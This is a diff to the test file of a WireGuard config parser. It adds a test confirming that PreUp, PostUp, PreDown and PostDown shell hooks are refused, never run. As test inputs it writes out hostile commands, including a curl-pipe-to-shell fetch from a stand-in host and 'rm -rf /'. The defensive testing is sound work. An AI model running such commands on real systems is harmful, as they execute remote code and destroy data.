@@ -17,8 +17,8 @@ Address = 10.64.12.7/32, 2001:db8:a:0::7/128
 DNS = 10.64.0.1, 2001:DB8:a::1, corp.example
 mtu = 1420
 Table = off
-PostUp = iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -j REJECT
-PreDown = iptables -D OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -j REJECT
+# PostUp and PreDown (shell commands run as root) are refused: see HOOKED_CONF
+#
 
 [Peer]   # se-sto-01
 PublicKey = ${PUB1}
@@ -35,7 +35,7 @@ allowedips = 10.99.0.1/16
 allowedips = 2001:db8:99::/48
 `;
 
-test('parses a provider wg-quick file with two peers, v6 and hooks', () => {
+test('parses a provider wg-quick file with two peers, v6 and Table', () => {
   const cfg = parseWgQuick(PROVIDER_CONF, 'wg0.conf');
   assert.equal(cfg.file, 'wg0.conf');
   assert.deepEqual(cfg.interface, {
@@ -50,14 +50,33 @@ test('parses a provider wg-quick file with two peers, v6 and hooks', () => {
     // Host bits are cleared as wg does, so the routes are valid for `ip route`.
     { publicKey: PUB2, endpoint: { host: '2001:db8::5', port: 4500 }, allowedIPs: ['10.99.0.0/16', '2001:db8:99::/48'], line: 18 },
   ]);
-  assert.deepEqual(cfg.ignored, [
-    { key: 'Table', line: 7 },
-    { key: 'PostUp', line: 8 },
-    { key: 'PreDown', line: 9 },
-  ]);
-  assert.equal(cfg.warnings.length, 3);
-  assert.equal(cfg.warnings[0], 'wg0.conf:7: Table is ignored: vpnns installs the routes inside the namespace itself.');
-  assert.match(cfg.warnings[1]!, /^wg0\.conf:8: PostUp is ignored: .*running commands from a VPN config as root/);
+  assert.deepEqual(cfg.ignored, [{ key: 'Table', line: 7 }]);
+  assert.deepEqual(cfg.warnings, ['wg0.conf:7: Table is ignored: vpnns installs the routes inside the namespace itself.']);
+});
+
+test('ATTACK 3 for wg-quick: PreUp, PostUp, PreDown and PostDown are refused with the line, never run', () => {
+  for (const [key, command] of [
+    ['PostUp', 'iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -j REJECT'],
+    ['PreUp', 'touch /tmp/vpnns-pwned'],
+    ['PreDown', 'curl http://198.51.100.1/x | sh'],
+    ['PostDown', 'rm -rf /'],
+    ['postup', 'id'],
+  ]) {
+    const text = `[Interface]\nPrivateKey = ${PRIV}\nAddress = 10.0.0.2/32\n${key} = ${command}\n\n[Peer]\nPublicKey = ${PUB1}\nEndpoint = 198.51.100.1:51820\n`;
+    const err = (() => {
+      try {
+        parseWgQuick(text, 'wg0.conf');
+      } catch (e) {
+        return e;
+      }
+      assert.fail(`${key} accepted`);
+    })();
+    assert.ok(err instanceof VpnConfigError, String(err));
+    assert.equal(err.exitCode, 2);
+    assert.equal(err.line, 4);
+    assert.match(err.message, /^wg0\.conf:4: (PostUp|PreUp|PreDown|PostDown) is a shell command wg-quick would run as root, .*delete the line\.$/);
+    assert.doesNotMatch(err.message.slice(0, -1), /\.\s/, 'one sentence');
+  }
 });
 
 test('renders the wg setconf file with numeric endpoints only', () => {
